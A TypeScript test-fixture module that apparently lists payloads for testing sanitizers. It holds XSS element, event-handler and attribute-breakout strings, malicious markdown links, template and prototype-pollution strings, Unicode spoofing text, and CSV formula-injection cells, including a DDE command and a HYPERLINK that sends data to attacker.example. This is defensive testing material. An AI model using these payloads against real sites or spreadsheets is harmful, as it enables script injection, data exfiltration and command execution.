/**
 * Texts that run when somebody takes them for a page, a style, an address or a template. Each calls `__xss(number)` or
 * leaves an element with the attribute `data-xss`; N stands for its number.
 */
const RUN = '__xss(N)';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt data-xss>${RUN}</sCrIpT >`,
  `<script src="//attacker.example/N.js" data-xss></script>`,
  `<script type=module data-xss>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script data-xss>${RUN}</script>`,
  `<script>/*<!--*/${RUN}//--></script>`,
  `<script x data-xss>${RUN}</script y>`,
  `<svg><script data-xss>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" data-xss /></svg>`,
  `<math><mtext><script data-xss>${RUN}</script></mtext></math>`,
  `<noscript><p title="</noscript><img data-xss src=x onerror=${RUN}>">`,
  `<textarea></textarea><img data-xss src=x onerror=${RUN}>`,
  `<title></title><img data-xss src=x onerror=${RUN}>`,
  `<style></style><img data-xss src=x onerror=${RUN}>`,
  `<template><img data-xss src=x onerror=${RUN}></template>`,
  `<iframe data-xss src="javascript:parent.${RUN}"></iframe>`,
  `<iframe data-xss srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data-xss data="javascript:${RUN}"></object>`,
  `<object data-xss data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed data-xss src="javascript:${RUN}">`,
  `<base data-xss href="//attacker.example/">`,
  `<meta data-xss http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link data-xss rel=stylesheet href="//attacker.example/N.css">`,
  `<link data-xss rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<form data-xss action="javascript:${RUN}"><button>go</button></form>`,
  `<form data-xss><button formaction="javascript:${RUN}">go</button></form>`,
  `<form data-xss><input name=attributes><input name=parentNode></form>`,
  `<form data-xss id=root></form><a data-xss id=root name=__proto__></a>`,
  `<xss data-xss contenteditable onfocus=${RUN} autofocus tabindex=1>`,
];
const HANDLERS = [
  `<img data-xss src=x onerror=${RUN}>`,
  `<img data-xss src=x:x onerror="${RUN}">`,
  `<img data-xss/src=x/onerror=${RUN}>`,
  `<img data-xss\tsrc=x\nonerror\n=\n${RUN}>`,
  `<image data-xss src=x onerror=${RUN}>`,
  `<img data-xss src=x onerror=&#95;&#95;xss(N)>`,
  `<IMG DATA-XSS SRC=X ONERROR=${RUN}>`,
  `<img data-xss srcset="x 1x" onerror=${RUN}>`,
  `<svg data-xss onload=${RUN}>`,
  `<svg/data-xss/onload=${RUN}//`,
  `<svg><animate data-xss onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set data-xss onbegin=${RUN} attributeName=x to=1>`,
  `<svg><a data-xss xlink:href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
  `<svg><use data-xss href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><body data-xss onload=${RUN}></foreignObject></svg>`,
  `<body data-xss onload=${RUN}>`,
  `<body data-xss onpageshow=${RUN}>`,
  `<input data-xss autofocus onfocus=${RUN}>`,
  `<select data-xss autofocus onfocus=${RUN}></select>`,
  `<textarea data-xss autofocus onfocus=${RUN}></textarea>`,
  `<details data-xss open ontoggle=${RUN}>x</details>`,
  `<video data-xss><source onerror=${RUN}></video>`,
  `<video data-xss src=x onerror=${RUN}></video>`,
  `<audio data-xss src=x onerror=${RUN}></audio>`,
  `<marquee data-xss onstart=${RUN}>x</marquee>`,
  `<div data-xss onmouseover=${RUN} style="position:fixed;inset:0">x</div>`,
  `<div data-xss onpointerrawupdate=${RUN} style="position:fixed;inset:0">x</div>`,
  `<div data-xss style="animation:x 1s" onanimationstart=${RUN}></div>`,
  `<a data-xss href="javascript:${RUN}">go</a>`,
  `<dialog data-xss open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button data-xss popovertarget=x onclick=${RUN}>x</button><div id=x popover onbeforetoggle=${RUN}>x</div>`,
];
const BREAKOUTS = [
  `"><img data-xss src=x onerror=${RUN}>`,
  `'><img data-xss src=x onerror=${RUN}>`,
  `\`><img data-xss src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" data-xss="`,
  `' onfocus='${RUN}' autofocus data-xss='`,
  `" autofocus onfocus=${RUN} x="`,
  `--><img data-xss src=x onerror=${RUN}><!--`,
  `]]><img data-xss src=x onerror=${RUN}><![CDATA[`,
  `*/${RUN}/*`,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `\\"-${RUN}//`,
  `\${${RUN}}`,
  `';${RUN};//`,
  `</p></div></article><img data-xss src=x onerror=${RUN}>`,
  `%3Cimg%20data-xss%20src%3Dx%20onerror%3D${RUN}%3E`,
  `&lt;img data-xss src=x onerror=${RUN}&gt;`,
  `&#60;img data-xss src=x onerror=${RUN}&#62;`,
  `\\u003cimg data-xss src=x onerror=${RUN}\\u003e`,
  `＜img data-xss src=x onerror=${RUN}＞`,
  `+ADw-img data-xss src=x onerror=${RUN}+AD4-`,
];
const MARKDOWN = [
  `[go](javascript:${RUN})`,
  `[go](JaVaScRiPt:${RUN})`,
  `[go](java\tscript:${RUN})`,
  `[go](&#106;avascript:${RUN})`,
  `[go](data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+)`,
  `[go](vbscript:${RUN})`,
  `[go](https://attacker.example "onmouseover=${RUN}")`,
  `![x](x"onerror="${RUN})`,
  `![x](javascript:${RUN})`,
  `![track](https://attacker.example/N.png)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n[x]`,
  `\`\`\`html\n<img data-xss src=x onerror=${RUN}>\n\`\`\``,
  `\`<img data-xss src=x onerror=${RUN}>\``,
  `*<img data-xss src=x onerror=${RUN}>*`,
  `_<svg data-xss onload=${RUN}>_`,
  `~<b data-xss onclick=${RUN}>x</b>~`,
  `javascript:${RUN}`,
  `javascript://attacker.example/%0a${RUN}`,
  `https://attacker.example/"onmouseover="${RUN}"data-xss="`,
  `https://attacker.example/'><img data-xss src=x onerror=${RUN}>`,
  `https://user:password@attacker.example/\u202Emoc.knab`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}<%= ${RUN} %>#{${RUN}}`,
  `__proto__[x]=${RUN}`,
];
/** What breaks a layout, or reads as something else. */
const SHAPES = [
  'W'.repeat(600),
  'iiii '.repeat(120),
  'Z\u0351\u0357\u0346\u0302\u0309\u0310'.repeat(60),
  '\u202Eevil.exe\u202D',
  '\u2066'.repeat(50),
  '\u200B'.repeat(200),
  '漢字'.repeat(200),
  'מספר הטלפון שלי הוא 123 abc',
  '\uFDFD'.repeat(40),
  '🏴‍☠️👩‍👩‍👧‍👦'.repeat(60),
  '\n'.repeat(80),
  '_'.repeat(400),
  '#'.repeat(50),
  ' leading and trailing ',
];

export interface Payload {
  number: number;
  text: string;
}

export const PAYLOADS: Payload[] = [...ELEMENTS, ...HANDLERS, ...BREAKOUTS, ...MARKDOWN, ...SHAPES].map(
  (text, number) => ({
    number,
    text: text.replaceAll('(N)', `(${number})`).replaceAll('/N.', `/${number}.`),
  }),
);
/** Those that leave something in a page which believes them, whatever its policy. */
export const PLANTED = ELEMENTS.length + HANDLERS.length;

/** What a spreadsheet calculates, or takes for a command, when a file of ours has a cell that begins with it. */
export const FORMULAS = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://attacker.example/?x="&A1,"go")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '|calc',
  '%0A=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1+1)',
  '",=1+1,"',
  'x\r\n=1+1',
];

/** Cells of a CSV file, cut as a spreadsheet cuts it, that would be calculated. */
export function formulasIn(csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (const letter of `${csv.replace(/^\ufeff/, '').replaceAll('""', '\u0001')}\n`)
    if (letter === '"') quoted = !quoted;
    else if (!quoted && /[,;\t\r\n]/.test(letter)) {
      cells.push(cell);
      cell = '';
    } else cell += letter;
  return cells.filter(text => /^\s*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text));
}
